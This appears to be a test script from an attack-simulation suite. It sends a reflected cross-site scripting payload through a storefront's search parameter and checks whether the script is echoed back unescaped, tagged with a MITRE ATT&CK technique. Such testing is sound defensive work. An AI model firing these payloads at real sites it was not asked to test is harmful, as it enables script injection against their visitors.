#!/usr/bin/env bash
# Has the storefront's search page reflect a script to the visitor's browser. MITRE ATT&CK T1059.007, JavaScript.
. "$(dirname "$0")/lib.sh"

script="<script>alert('$mark')</script>"
page=$(evil get "http://storefront:8080/search?q=$(urlencode "x$script" | sed 's/%27/%27%27/g')")
[[ $page == *"<script>alert("*"$mark"* ]] || stopped "the script did not come back"
worked "the page holds ${script}"
